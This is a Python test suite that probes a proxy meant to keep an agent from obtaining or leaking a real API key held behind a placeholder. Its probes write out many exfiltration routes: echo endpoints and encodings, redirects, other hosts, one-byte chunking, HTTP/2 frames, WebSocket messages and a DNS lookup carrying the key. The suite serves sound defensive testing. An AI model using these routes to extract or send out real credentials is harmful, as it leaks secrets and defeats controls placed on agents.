# SPDX-License-Identifier: Apache-2.0
"""C1–C4, C9: what an agent that holds a placeholder does to get at the key, or to have it sent elsewhere."""

import base64
import gzip
import hashlib
import json
import os
import socket
import urllib.parse
import zlib

from probe import *

API, SECOND, CLEAR = PARAMS["api"], PARAMS["second"], PARAMS["clear"]
HERE = f"{API}:{PORT}"
KEY = os.environ["API_KEY"]
TOKEN = os.environ["TOKEN"]
OUT = {"gate": ["403 placeholder", "closed"]}


def api():
    return secure(tcp(API), API)


def is_key(data):
    """Whether one of the real secrets is in it, of which only the digests are known here."""
    return any(
        hashlib.sha256(data[at : at + length]).hexdigest() == digest
        for digest, length in PARAMS["digests"] for at in range(len(data) - length + 1)
    )


def judged(*texts, held=KEY):
    """Whether the key is in one of these; otherwise the placeholder has to be, or it was no echo."""
    if any(is_key(text) for text in texts):
        return "through"
    # Of Base 64 the characters at either end hold bits of what is beside it as well, and are not put back exactly.
    if any(held[3:-3].encode() in text for text in texts):
        raise Refused("the placeholder comes back")
    raise Refused(f"no echo: {texts[0][:60]!r}")


# ---- C1: a host that repeats what it was sent

def unescaped(data):
    return json.loads(data).encode("latin-1") if data.startswith(b'"') else data


READINGS = {
    "plain": bytes,
    "backslashes": bytes, "error": bytes, "base64": base64.b64decode, "base64-1": lambda d: base64.b64decode(d)[1:],
    "base64-2": lambda d: base64.b64decode(d)[2:], "base64-url": base64.urlsafe_b64decode,
    "hexadecimal": lambda d: bytes.fromhex(d.decode()), "json": bytes, "json-escaped": unescaped,
    "url": urllib.parse.unquote_to_bytes, "lines": lambda d: base64.b64decode(d.replace(b"\n", b"")),
    "gzip": lambda d: gzip.decompress(d) if d[:2] == b"\x1f\x8b" else d,
    "gzip-chunked": lambda d: gzip.decompress(d) if d[:2] == b"\x1f\x8b" else d,
    "deflate": lambda d: zlib.decompress(d) if d[:1] == b"\x78" else d,
    "deflate-raw": lambda d: d if KEY.encode() in d else zlib.decompress(d, -15),
    "chunks": bytes, "events": bytes, "header": bytes, "location": urllib.parse.unquote_to_bytes, "cookie": bytes,
    "trailer": bytes,
}
BACK = {"gate": ["the placeholder comes back"]}
for how, read in READINGS.items():
    @probe(f"C1.{how}", f"have the host repeat the key: {how.replace('-', ' ')}", **BACK)
    def _(how=how, read=read):
        end = api()
        end.sendall(request(f"/v1/x?echo={how}", HERE, fields=[f"Authorization: Bearer {KEY}", "TE: trailers"]))
        head = read_head(end)
        body = read_rest(end, head)
        if b"chunked" in head.lower():
            body, trailer = joined(body)
            return judged(read(body), head, trailer)
        return judged(read(body), urllib.parse.unquote_to_bytes(head))


def joined(data):
    """The body of chunks, and what follows them."""
    body = b""
    while True:
        size, _, data = data.partition(b"\r\n")
        length = int(size, 16)
        if not length:
            return body, data
        body, data = body + data[:length], data[length + 2 :]


@probe("C1.http2", "have the host repeat the key over HTTP/2", gate=["the placeholder comes back"])
def _():
    end = secure(tcp(API), API, ["h2"])
    heads = [("authorization", f"Bearer {KEY}")]
    # Without a gate the host speaks HTTP/1 only: it is C1.plain, then.
    return judged(fetch2_raw(end, heads) if PARAMS["inside"] else KEY.encode())


def fetch2_raw(end, heads):
    block = b"".join(literal(*each) for each in [
        (":method", "GET"), (":scheme", "https"), (":authority", HERE), (":path", "/v1/x?echo=plain"), *heads])
    end.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, block))
    data = b""
    while KEY.encode() not in data and not is_key(data):
        piece = end.recv(65536)
        if not piece:
            break
        data += piece
    return data


# ---- C2: methods and redirects that carry it further

@probe("C2.trace", "have the host show the request: TRACE", gate=["403 trace", "403 placeholder", "403 method"])
def _():
    return fetch(api(), "/v1/C2.trace", HERE, "TRACE", [f"Authorization: Bearer {KEY}"])


@probe("C2.options", "OPTIONS of the whole host with the key", **OUT)
def _():
    end = api()
    end.sendall(request("*", HERE, "OPTIONS", [f"X-Key: {KEY}", "X: C2.options"]))
    return answer(end)


@probe("C2.redirect", "follow a redirect to another allowed host with the key", **OUT)
def _():
    end = api()
    end.sendall(request(f"/v1/x?to=https://{SECOND}:{PORT}/moved", HERE, fields=[f"Authorization: Bearer {KEY}"]))
    head = read_head(end)
    place = urllib.parse.urlsplit(head.decode("latin-1").lower().partition("location: ")[2].split("\r\n")[0])
    end = secure(tcp(place.hostname), place.hostname)
    return fetch(end, f"{place.path}/C2.redirect", f"{SECOND}:{PORT}", fields=[f"Authorization: Bearer {KEY}"])


@probe("C2.redirect-path", "follow one to a path of the same host that the key is not for", **OUT)
def _():
    return fetch(api(), "/free/C2.redirect-path", HERE, fields=[f"Authorization: Bearer {KEY}"])


# ---- C3: the placeholder goes where it is not bound

@probe("C3.other-host", "send it to another allowed host", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    return fetch(end, "/C3.other-host", f"{SECOND}:{PORT}", fields=[f"Authorization: Bearer {KEY}"])


@probe("C3.other-host-body", "send it in a body", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    body = f"key={KEY}&C3.other-host-body".encode()
    return fetch(end, "/x", f"{SECOND}:{PORT}", "POST", [f"Content-Length: {len(body)}"], body)


for spelling, text in (
    ("base64", base64.b64encode(KEY.encode()).decode()),
    ("hexadecimal", KEY.encode().hex()),
    ("json-escaped", "".join(f"\\u{ord(each):04x}" for each in KEY)),
    ("url", "".join(f"%{ord(each):02X}" for each in KEY)),
    ("lines", base64.encodebytes(KEY.encode()).decode()),
):
    @probe(f"C3.other-host-{spelling}", f"send it in a body, as {spelling.replace('-', ' ')}", **OUT)
    def _(spelling=spelling, text=text):
        end = secure(tcp(SECOND), SECOND)
        body = f"{text} C3.other-host-{spelling}".encode()
        return fetch(end, "/x", f"{SECOND}:{PORT}", "POST", [f"Content-Length: {len(body)}"], body)


@probe("C3.query", "send it in a query", **OUT)
def _():
    return fetch(secure(tcp(SECOND), SECOND), f"/C3.query?k={KEY}", f"{SECOND}:{PORT}")


@probe("C3.path", "send it in a path", **OUT)
def _():
    return fetch(secure(tcp(SECOND), SECOND), f"/C3.path/{KEY}", f"{SECOND}:{PORT}")


@probe("C3.method", "send it as a method", gate=["400 malformed-start-line"])
def _():
    return fetch(secure(tcp(SECOND), SECOND), "/C3.method", f"{SECOND}:{PORT}", KEY)


@probe("C3.field-name", "send it as the name of a field", **OUT)
def _():
    return fetch(secure(tcp(SECOND), SECOND), "/C3.field-name", f"{SECOND}:{PORT}", fields=[f"{KEY}: x"])


@probe("C3.other-field", "send it to its own host in another field", **OUT)
def _():
    return fetch(api(), "/v1/C3.other-field", HERE, fields=[f"X-Other: {KEY}"])


@probe("C3.split", "send it in a body, one byte at a time", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    body = f"{KEY} C3.split".encode()
    end.sendall(request("/x", f"{SECOND}:{PORT}", "POST", [f"Content-Length: {len(body)}"]))
    for byte in body:
        end.sendall(bytes([byte]))
    return answer(end)


@probe("C3.chunks", "send it in chunks of one byte", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    end.sendall(request("/x", f"{SECOND}:{PORT}", "POST", ["Transfer-Encoding: chunked"]))
    for byte in KEY.encode():
        end.sendall(b"1\r\n" + bytes([byte]) + b"\r\n")
    end.sendall(b"9\r\nC3.chunks\r\n0\r\n\r\n")
    return answer(end)


@probe("C3.trailer", "send it in a trailer", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    end.sendall(request("/x", f"{SECOND}:{PORT}", "POST", ["Transfer-Encoding: chunked", "Trailer: X"]))
    end.sendall(f"1\r\nx\r\n0\r\nX: {KEY} C3.trailer\r\n\r\n".encode())
    return answer(end)


@probe("C3.http2-frames", "send it over HTTP/2, in frames of a few bytes", gate=["403 placeholder", "reset", "closed"])
def _():
    end = secure(tcp(SECOND), SECOND, ["h2"])
    return fetch2(
        end,
        "/x",
        f"{SECOND}:{PORT}",
        "POST",
        body=[*(KEY[at : at + 3].encode() for at in range(0, len(KEY), 3)), b"C3.http2-frames"],
    )


@probe("C3.web-socket", "send it in a binary message of a WebSocket", gate=["closed"])
def _():
    end = secure(tcp(SECOND), SECOND)
    fetch(
        end,
        "/x",
        f"{SECOND}:{PORT}",
        fields=[
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ],
    )
    for at, text in ((0, KEY[:20]), (1, KEY[20:]), (2, "C3.web-socket")):
        data, mask = text.encode(), os.urandom(4)
        first = (0x02 if at == 0 else 0) | (0x80 if at == 2 else 0)
        end.sendall(bytes([first, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
    end.settimeout(2)
    try:
        if not end.recv(1):
            raise Refused("closed")
    except socket.timeout:
        return "through"


@probe("C3.name", "send it as a name to look up", gate=["no such name"])
def _():
    resolve(f"c3-name.{KEY[:40].replace('_', '-')}.example")
    if PARAMS["inside"]:
        return "through"


@probe("C3.clear-name", "send it in the name of a CONNECT", gate=["403 host", "403 placeholder", "400 malformed"])
def _():
    return fetch(connect(f"c3-clear-name.{KEY[:40].replace('_', '-')}.example", 80), "/C3.clear-name")


# ---- C4: within Basic

@probe("C4.basic-other-host", "send it as a password to another host", **OUT)
def _():
    end = secure(tcp(SECOND), SECOND)
    return fetch(end, "/C4.basic-other-host", f"{SECOND}:{PORT}", fields=[f"Authorization: {basic('agent', KEY)}"])


for shift in range(3):
    @probe(f"C4.base64-{shift}", f"send it to another host in Base 64, at alignment {shift}", **OUT)
    def _(shift=shift):
        text = base64.b64encode(b"x" * shift + KEY.encode()).decode()
        end = secure(tcp(SECOND), SECOND)
        return fetch(end, f"/C4.base64-{shift}", f"{SECOND}:{PORT}", fields=[f"X-Any: {text}"])


@probe("C4.echo", "have the host repeat the Basic credential in which the key was put", **BACK)
def _():
    end = secure(tcp(API), API)
    end.sendall(request("/basic/x?echo=plain", HERE, fields=[f"Authorization: {basic('agent', TOKEN)}"]))
    head = read_head(end)
    text = read_rest(end, head)
    return judged(base64.b64decode(text.split(b" ")[-1]), held=TOKEN)


# ---- C9: in the clear

@probe("C9.clear", "send it to its own host without TLS", gate=["403 placeholder", "closed"])
def _():
    with tcp(CLEAR, 80) as end:
        return fetch(end, "/v1/C9.clear", CLEAR, fields=[f"Authorization: Bearer {KEY}"])


@probe("C9.clear-proxy", "the same through the proxy, as a whole URL", gate=["403 placeholder", "closed"])
def _():
    with tcp(*PROXY) as end:
        return fetch(end, f"http://{CLEAR}/v1/C9.clear-proxy", CLEAR, fields=[f"Authorization: Bearer {KEY}"])


run()
